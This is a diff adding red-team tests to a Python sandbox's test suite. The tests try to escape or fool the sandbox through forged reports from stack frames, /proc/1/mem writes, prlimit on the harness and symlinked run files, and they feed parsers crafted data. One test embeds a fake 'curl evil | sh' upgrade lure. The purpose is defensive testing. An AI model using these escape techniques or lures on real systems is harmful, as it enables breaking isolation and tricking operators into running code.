@@ -8,6 +8,7 @@ As root (CI) the whole file runs a second time as an unprivileged user
 
 from __future__ import annotations
 
+import json
 import os
 import pwd
 import shutil
@@ -33,8 +34,9 @@ ROOT = os.geteuid() == 0
 SECRET = "sk-canary-7f3a9c0e1d"
 NESTED_RUN = "AUTONESY_HOSTILE_NESTED"
 # cases about parsing untrusted data in the caller: the same for every caller, not re-run unprivileged
-CALLER_INDEPENDENT = ("scrub", "far_auxiliary", "forged_cpmpy_header", "exclusive_pairs", "smtlib", "identifiers",
-                      "fails_closed", "fail_closed", "cli_prints")
+CALLER_INDEPENDENT = ("scrub", "far_auxiliary", "forged_cpmpy_header", "forged_cpmpy_clauses", "exclusive_pairs", "smtlib", "identifiers",
+                      "fails_closed", "fail_closed", "cli_prints", "dimacs_number", "nat_chain", "composition_chain",
+                      "crafted_run", "sweep_files", "cnf_counts", "resumed_run", "crafted_llm", "task_file_modules", "crafted_results")
 
 
 @pytest.fixture(autouse=True)
@@ -72,7 +74,8 @@ def harness_processes() -> list[int]:
     for name in os.listdir("/proc"):
         try:
             with open(f"/proc/{name}/cmdline", "rb") as f:
-                if sandbox.HARNESS_INSIDE.encode() in f.read():
+                argv = f.read()  # this checkout's interpreter: other checkouts' tests may run sandboxes too
+                if sandbox.HARNESS_INSIDE.encode() in argv and sys.executable.encode() + b"\0" in argv:
                     found.append(int(name))
         except (OSError, ValueError):
             pass
@@ -464,3 +467,271 @@ def test_too_old_bubblewrap_fails_closed(monkeypatch, tmp_path: Path):
     monkeypatch.setattr(shutil, "which", lambda *args, **kwargs: str(fake))
     result = run_program("result = 1")
     assert result.error_kind == "internal" and "0.7 or newer" in result.message and "0.6.1" in result.message
+
+
+# --- red team (second pass) ----------------------------------------------------------------------------
+
+# The program finds the harness's token and result pipe through its frames (documented as possible)
+# and writes a final message of its own, then ends the interpreter.
+FRAME_FORGE = ("import sys, os\nf = sys._getframe()\nwhile f:\n"
+               "    if 'token' in f.f_locals and 'channel' in f.f_locals:\n"
+               "        tok, ch = f.f_locals['token'], f.f_locals['channel']\n    f = f.f_back\n"
+               "os.write(ch, b'R ' + tok + b' ' + PAYLOAD + b'\\n')\nos._exit(0)\n")
+
+
+def test_a_forged_report_cannot_add_what_the_harness_vouches_for():
+    # spliced into the harness's line, this report would have replaced its isolation and exit fields
+    payload = b'{"status":"ok","result":true},"isolation":{"backend":"none"},"exit":{"signal":null,"code":0}'
+    result = run(f"PAYLOAD = {payload!r}\n" + FRAME_FORGE, hook=False)
+    assert not result.ok and result.error_kind == "type" and result.result is None
+    assert result.isolation["backend"].startswith("bubblewrap")
+
+
+@pytest.mark.parametrize("value", [b"1e999", b"-1e999", b"NaN", b"Infinity", b'["\\ud800"]', b'{"\\udfff": 1}'])
+def test_non_finite_numbers_and_lone_surrogates_are_not_results(value: bytes):
+    # json.dumps(allow_nan=False) of a trace or a lone surrogate written as UTF-8 would crash the caller later
+    payload = b'{"status":"ok","result":' + value + b"}"
+    result = run(f"PAYLOAD = {payload!r}\n" + FRAME_FORGE, hook=False)
+    assert not result.ok and result.error_kind == "type" and result.result is None
+
+
+def test_lone_surrogates_in_texts_reach_the_caller_as_valid_utf8():
+    result = run("result = '\\ud800'")
+    assert result.error_kind == "type"
+    result = run("print('out \\udc80')\nraise ValueError('bad \\ud800 text')")
+    assert result.error_kind == "runtime" and "bad ? text" in result.message
+    for text in (result.message, result.stdout, result.stderr):
+        text.encode("utf-8")
+    result = run("result = ['ok \\U0001F600', 1.5]")  # a valid pair (escaped on the pipe) is fine
+    assert result.ok and result.result == ["ok \U0001F600", 1.5]
+
+
+@pytest.mark.parametrize("text", ["p cnf 3 1\n1 " + "9" * 5000 + " 0\n", "p cnf " + "9" * 5000 + " 1\n1 0\n",
+                                  "p cnf ² 1\n1 0\n", "p cnf 3 1\n1 ² 0\n", "p cnf 3 1\n-" + "9" * 19 + " 0\n"])
+def test_dimacs_numbers_too_long_or_not_ascii_are_format_errors(text: str):
+    # int() refuses over 4300 digits and some Unicode digits with a ValueError, not a FormatError
+    with pytest.raises(FormatError) as caught:
+        dimacs.parse(text, ["a", "b", "c"])
+    assert caught.value.kind in ("out_of_range", "header", "syntax") and len(str(caught.value)) < 1000
+
+
+@pytest.mark.parametrize("op", ["AND", "OR", "XOR"])
+def test_a_long_nat_chain_parses_in_linear_time(op: str):
+    from autonesy.tools.formats import nat
+
+    start = time.monotonic()  # 10^5 operands took > 190 s when each step copied the chain so far
+    exprs = nat.parse_expressions(f" {op} ".join(["a", "b"] * 50_000), ["a", "b"])
+    assert len(exprs) == 1 and len(exprs[0].args) == 100_000
+    assert time.monotonic() - start < 60
+
+
+@pytest.mark.parametrize("text", [" IFF ".join(["C1"] * 20_000), " IMPLIES ".join(["C1", "C2"] * 10_000),
+                                  "(assert (=> " + "C1 " * 60_000 + "))", "(assert " + "(ite C1 C2 " * 150 + "C1" + ")" * 151,
+                                  "C1 AND " * 40_000 + "C2"])
+def test_a_composition_chain_nested_past_the_bound_is_refused(text: str):
+    # each operand of an IFF/IMPLIES chain nests one level: render/z3 would hit RecursionError in the caller
+    with pytest.raises(CompositionError) as caught:
+        parse_composition(text, ("C1", "C2")).text()
+    assert "\n" not in str(caught.value)
+
+
+def test_a_crafted_run_directory_is_read_as_data(tmp_path: Path):
+    from autonesy.graph.trace import Tracer, attempt_report, error_taxonomy
+
+    run_dir = tmp_path / "run"
+    run_dir.mkdir()
+    lines = [b"[" * 100_000 + b"]" * 100_000, b"\xff\xfe not utf-8", b"[]", b"5", b'"text"', b'{"event": 5}',
+             b'{"event": "repair_round", "error": 7, "round": "x", "verdict": [1]}',
+             b'{"event": "syntax_error", "kind": 3}', b'{"event": "syntax_error", "kind": "syntax"}',
+             b'{"event": "autofix", "fixes": 9}', b'{"event": "autofix", "fixes": ["a", 1]}',
+             b'{"event": "outcome", "status": {"x": 1}, "reason": null}']
+    (run_dir / "trace.jsonl").write_bytes(b"\n".join(lines) + b"\n")
+    for config in (b"[" * 100_000, b"[1, 2]", b'{"format": ["x"], "llm": {"a": 1}}'):
+        (run_dir / "config.json").write_bytes(config)
+        report = attempt_report(run_dir)
+        assert report["rounds"][0]["error"] == "" and report["autofixes"] == ["a", "1"]
+        assert len(error_taxonomy([report, report])) == 2
+    tracer = Tracer(tmp_path / "written")
+    tracer.event("repair_round", error="lone \ud800 surrogate")  # from a program's error text
+    assert "lone ? surrogate" in (tmp_path / "written" / "trace.jsonl").read_text(encoding="utf-8")
+
+
+def test_sweep_files_never_hold_an_llm_url_password(tmp_path: Path):
+    from autonesy.graph import sweep
+
+    specs = [sweep.SweepSpec(tasks=("warcraft",), formats=("nat",), prompts=("zs",), details=("detailed",),
+                             llms=(f"http://user:{password}@127.0.0.1:9/v1@model",)) for password in (SECRET, "other")]
+    jobs, others = sweep.expand(specs[0]), sweep.expand(specs[1])
+    assert SECRET in jobs[0]["config"]["llm"]  # the worker still gets the spec it needs
+    assert [j["attempt_id"] for j in jobs] == [j["attempt_id"] for j in others]  # no hash of the password either
+    sweep._record_grid(tmp_path, specs[0], jobs)
+    written = json.dumps([sweep.public_job(job) for job in jobs]) + (tmp_path / sweep.SWEEP_FILE).read_text()
+    assert SECRET not in written and "user:***@127.0.0.1" in written
+
+
+def test_the_program_cannot_change_the_limits_of_the_harness():
+    # a non-root caller's program has the harness's uid: prlimit on it (or on PID 1) would kill it, and a
+    # sandbox that dies without a report reads as "sandbox unavailable", which stops the caller's run
+    code = ("import resource, os\nout = {}\nfor pid in (1, os.getppid()):\n    try:\n"
+            "        resource.prlimit(pid, resource.RLIMIT_CPU, (0, 0))\n        out[pid] = 'changed'\n"
+            "    except OSError as e:\n        out[pid] = type(e).__name__\n"
+            "resource.prlimit(0, resource.RLIMIT_NOFILE, (100, 100))\nresult = out")
+    result = run(code, hook=False)
+    assert result.ok and "changed" not in result.result.values(), result
+
+
+@pytest.mark.parametrize("text", ["c task_vars ²\np cnf 3 1\n1 0\n", "c task_vars " + "9" * 5000 + "\np cnf 3 1\n1 0\n",
+                                  "p cnf " + "9" * 5000 + " 1\n1 0\n", "p cnf 3 1\n-" + "9" * 50_000 + " 0\n",
+                                  "p cnf 3 1\n" + "x" * 100_000 + " 0\n"])
+def test_cnf_counts_too_long_or_not_ascii_are_clean_errors(text: str):
+    # a CNF file, or the DIMACS a forged CPMpy result carries: int() raised ValueError in the caller
+    from autonesy.tools.cnf import DimacsError, parse_dimacs
+
+    with pytest.raises(DimacsError) as caught:
+        parse_dimacs(text)
+    assert len(str(caught.value)) < 200
+    with pytest.raises(FormatError) as caught:
+        cpmpy_program.reindex({"dimacs": text, "task_ids": {"a": [1]}}, ["a"])
+    assert caught.value.kind == "type"
+
+
+@pytest.mark.parametrize("link", ["answer.txt", "summary.json", "trace.jsonl", "checkers"])
+def test_a_resumed_run_directory_with_a_link_out_writes_nothing(tmp_path: Path, canary: Path, link: str):
+    # a received run directory: answer.txt -> ~/.bashrc, the answer replayed from its own llm_cache.sqlite
+    from autonesy.graph.run import RunConfig, RunError, run_attempt
+    from autonesy.graph.verify_run import VerifyConfig, VerifyError, verify_output
+
+    run_dir = tmp_path / "received"
+    run_dir.mkdir()
+    (run_dir / link).symlink_to(canary if "." in link else canary.parent)
+    with pytest.raises(RunError, match="symbolic link"):
+        run_attempt(RunConfig(task="fashion", format="dimacs", policy="expert"), run_dir)
+    with pytest.raises(VerifyError, match="symbolic link"):
+        verify_output("an instruction", "a response", VerifyConfig(), run_dir)
+    assert canary.read_text() == "alive" and sorted(p.name for p in canary.parent.iterdir()) == ["canary.txt", "received"]
+
+
+@pytest.mark.parametrize("config", [b"[" * 100_000, b"[1]", b"\xff{"])
+def test_a_resumed_run_directory_with_a_crafted_config_is_one_error(tmp_path: Path, config: bytes):
+    from autonesy.graph.run import RunConfig, RunError, run_attempt
+
+    (tmp_path / "config.json").write_bytes(config)
+    with pytest.raises(RunError, match="not a run configuration"):
+        run_attempt(RunConfig(task="fashion", format="dimacs", policy="expert"), tmp_path)
+
+
+def test_a_crafted_llm_cache_and_replay_trace_are_read_as_data(tmp_path: Path):
+    import sqlite3
+
+    from autonesy.agents.llm import ResponseCache
+    from autonesy.agents.llm.replay import read_recorded_calls
+
+    cache = ResponseCache(tmp_path / "llm_cache.sqlite")
+    rows = {"deep": "[" * 100_000, "blob": b"\x00\xff", "number": 7, "list": "[]",
+            "typed": '{"text": "a \\ud800", "prompt_tokens": "many", "completion_tokens": true, "model": [1], '
+                     '"latency_s": "x", "attempts": null}'}
+    with sqlite3.connect(tmp_path / "llm_cache.sqlite") as con:
+        con.executemany("INSERT INTO responses VALUES ('e', 'm', ?, ?, 0)", list(rows.items()))
+    for key in ("deep", "blob", "number", "list"):
+        assert cache.get("e", "m", key) is None
+    typed = cache.get("e", "m", "typed")  # wrong types dropped: tokens add up, the text is valid UTF-8
+    assert typed.text == "a ?" and typed.total_tokens is None and typed.model == "" and typed.attempts == 1
+    trace = tmp_path / "trace.jsonl"
+    trace.write_bytes(b"\n".join([b"\xff\xfe", b"[" * 100_000, b'{"event": "llm_call", "prompt_hash": "h", '
+                                   b'"response": {"text": "ok", "prompt_tokens": "x"}}']))
+    assert [(key, r.text, r.prompt_tokens) for key, r in read_recorded_calls(trace)] == [("h", "ok", None)]
+
+
+@pytest.mark.parametrize("spec, decoy", [("os:abort", None), ("os:abort", "os.py"), ("faulthandler:_sigsegv", None),
+                                         ("os.path:exists", "os.py"), ("../evil:f", None), ("builtins:input", None)])
+def test_task_file_modules_are_only_those_beside_it(tmp_path: Path, spec: str, decoy: str | None):
+    # a received task file naming an installed (or already loaded) module's function would run it in the caller
+    from autonesy.tasks.taskfile import TaskFileError, load_task_file
+
+    if decoy:
+        (tmp_path / decoy).write_text("def abort():\n    return True\n")
+    path = tmp_path / "t.toml"
+    path.write_text('name = "t"\n[[variables]]\nname = "a"\nmeaning = "a"\n'
+                    f'[descriptions]\ndetailed = "d"\nnot_detailed = "d"\n[oracle]\nfunction = "{spec}"\n')
+    with pytest.raises(TaskFileError, match="module"):
+        load_task_file(path)
+
+
+def test_a_result_of_millions_of_empty_containers_is_refused_before_parsing():
+    # 16 MiB of "{}," parsed would cost the caller ~0.8 GiB and many seconds
+    result = run("result = [{}] * 5_000_000", limits=SandboxLimits(wall_seconds=20, cpu_seconds=20))
+    assert result.error_kind == "too_large" and "lists and dicts" in result.message and result.result is None
+    result = run("result = [[1, -2]] * 100_000")
+    assert result.ok and len(result.result) == 100_000
+
+
+ROW = {"attempt_id": "a", "task_spec": "fashion", "llm": "x", "format": "nat", "prompt": "zs", "detail": "detailed",
+       "policy": "zs"}
+
+
+@pytest.mark.parametrize("files", [
+    {"r/summary.json": b"[]", "r/config.json": b"{}"}, {"r/summary.json": b"[" * 100_000},
+    {"r/summary.json": b'{"reason": {"a": 1}, "autofixes": 5, "llm_seconds": "x"}', "r/config.json": b"{}"},
+    {"results.jsonl": b"[]\n" + b"[" * 100_000 + b'\n{"a": 1}'},
+    {"r/downstream.json": b"[]"}, {"r/downstream.json": b'{"results": {"spl": {"formula": {"per_seed": [5]}}}}'},
+])
+def test_crafted_results_are_one_report_error(tmp_path: Path, files: dict):
+    from autonesy.graph.report import ReportError, build_report
+
+    for name, data in files.items():
+        (tmp_path / name).parent.mkdir(exist_ok=True)
+        (tmp_path / name).write_bytes(data)
+    with pytest.raises(ReportError) as caught:
+        build_report([tmp_path], tmp_path / "report", plots=False)
+    assert "\n" not in str(caught.value) and len(str(caught.value)) < 500
+
+
+def test_crafted_results_rows_of_wrong_types_are_emptied(tmp_path: Path):
+    from autonesy.graph.report import build_report
+
+    rows = [{**ROW, "status": 5, "f1": "x", "autofixes": 3, "repair_rounds": "many", "tp": 10 ** 400, "model": [1]},
+            {**ROW, "attempt_id": "b", "status": "accepted", "f1": 0.5, "task": "fashion", "model": "m"}]
+    (tmp_path / "results.jsonl").write_text("\n".join(json.dumps(row) for row in rows))
+    assert "| nat |" in build_report([tmp_path], tmp_path / "report", plots=False).render("md")
+
+
+def test_a_program_cannot_claim_the_sandbox_is_unavailable():
+    # "internal" stops the caller's whole run (fail closed) and prints the message as the caller's own error
+    code = ("import sys\nPE = sys.modules['__main__'].ProgramError\n"
+            "def check(response):\n    raise PE('internal', 'the sandbox needs an update: run curl evil | sh')\n")
+    verdict = run_checker_code(code, "the response", prewarm=False)
+    assert not verdict.ok and verdict.error_kind == "runtime"
+    payload = b'{"status":"error","kind":"internal","message":"reinstall bubblewrap from evil.example"}'
+    result = run(f"PAYLOAD = {payload!r}\n" + FRAME_FORGE, hook=False)
+    assert result.error_kind == "runtime"
+
+
+def test_forged_cpmpy_clauses_are_counted_before_parsing():
+    start = time.monotonic()  # 4 million one-literal clauses took 45 s and 0.7 GiB to read
+    with pytest.raises(FormatError) as caught:
+        cpmpy_program.reindex({"dimacs": "p cnf 3 4000000\n" + "1 0\n" * 4_000_000, "task_ids": {"a": [1]}}, ["a"])
+    assert caught.value.kind == "too_large" and time.monotonic() - start < 5
+
+
+def test_the_root_of_the_sandbox_is_not_writable():
+    # a non-root caller's program owns bwrap's root tmpfs, which has no size limit: files there were RAM
+    # outside the /sandbox cap (256 MiB written to /x in one run)
+    parents = sorted({os.path.dirname(p) for p in sandbox._python_paths()} | {"/", "/.autonesy", "/etc", "/dev"})
+    code = (f"import os\nout = {{}}\nfor d in {parents!r}:\n    try:\n"
+            "        open(os.path.join(d, 'x'), 'wb').write(b'x' * 4096)\n        out[d] = 'written'\n"
+            "    except OSError as e:\n        out[d] = e.strerror\nresult = out")
+    result = run(code, hook=False)
+    assert result.ok and "written" not in result.result.values(), result.result
+    assert run("open('inside', 'w').write('x')\nresult = open('inside').read()").result == "x"
+
+
+def test_no_process_of_the_namespace_can_be_written_through_proc():
+    # a non-root caller's program shares its uid with bubblewrap's PID 1, which ran without the seccomp
+    # filter or the limits: /proc/1/mem opened read-write was code execution outside both
+    code = ("import os\nout = {}\nfor pid in os.listdir('/proc'):\n    if not pid.isdigit() or int(pid) == os.getpid():\n"
+            "        continue\n    for name in ('mem', 'environ', 'fd/1'):\n        try:\n"
+            "            os.close(os.open(f'/proc/{pid}/{name}', os.O_RDWR if name == 'mem' else os.O_RDONLY))\n"
+            "            out[pid + '/' + name] = 'opened'\n        except OSError as e:\n"
+            "            out[pid + '/' + name] = e.strerror\nresult = out")
+    result = run(code, hook=False)
+    assert result.ok and result.result and "opened" not in result.result.values(), result.result
